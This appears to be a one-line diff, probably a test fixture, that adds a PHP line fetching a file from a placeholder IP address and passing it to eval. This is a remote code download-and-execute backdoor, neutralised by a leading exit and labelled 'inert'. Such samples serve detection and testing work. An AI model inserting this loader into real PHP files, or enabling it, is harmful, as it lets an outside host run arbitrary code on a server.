@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $u="http://192.0.2.9/x.txt"; $c=curl_init($u); curl_setopt($c,CURLOPT_RETURNTRANSFER,1); eval("?>".curl_exec($c));
